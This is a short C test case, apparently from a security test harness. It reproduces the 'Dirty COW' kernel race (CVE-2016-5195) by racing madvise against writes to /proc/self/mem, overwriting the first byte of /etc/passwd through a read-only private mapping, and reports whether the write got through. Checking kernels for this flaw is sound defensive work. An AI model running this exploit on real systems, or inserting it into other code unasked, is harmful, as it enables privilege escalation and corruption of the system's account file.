// title: writes into a file that it may only read, by a private map and /proc/self/mem
// source: CVE-2016-5195 ("Dirty COW")
// twin: no: every kernel since 4.8.3 gives the writer a copy
#include <pthread.h>

#include "attack.h"

static char *area;

static void *forget(void *unused) {
    (void)unused;
    for (int i = 0; i < 20000; i++) madvise(area, 4096, MADV_DONTNEED);
    return NULL;
}

ATTACK(write_through_private_map) {
    int file = open("/etc/passwd", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    area = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    char first, second;
    if (pread(file, &first, 1, 0) != 1 || area == MAP_FAILED) return;
    pthread_t thread;
    pthread_create(&thread, NULL, forget, NULL);
    for (int i = 0; i < 20000; i++)
        if (pwrite(memory, "#", 1, (off_t)area) == -1) break;
    pthread_join(thread, NULL);
    if (pread(file, &second, 1, 0) == 1 && second != first) through("the file begins with %c", second);
    else held("the file is as it was");
}
